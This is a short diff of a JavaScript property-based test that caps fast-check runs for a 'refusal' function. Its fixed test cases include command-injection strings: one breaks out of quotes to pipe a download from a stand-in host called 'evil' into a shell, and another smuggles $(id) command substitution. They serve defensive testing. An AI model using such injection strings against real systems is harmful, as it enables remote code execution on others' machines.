@@ -123,7 +123,7 @@ describe('the message about another store', () => {
       const acknowledged = parts.join("'");
       expect(refusal({ recorded: 'old', acknowledged }, identity)).toBeUndefined();
     };
-    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), check));
+    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 200 }), check), { numRuns: 30 });
     check("x'; curl evil | sh; '");
     check(`${'x'.repeat(600)}'\n$(id)`);
   });
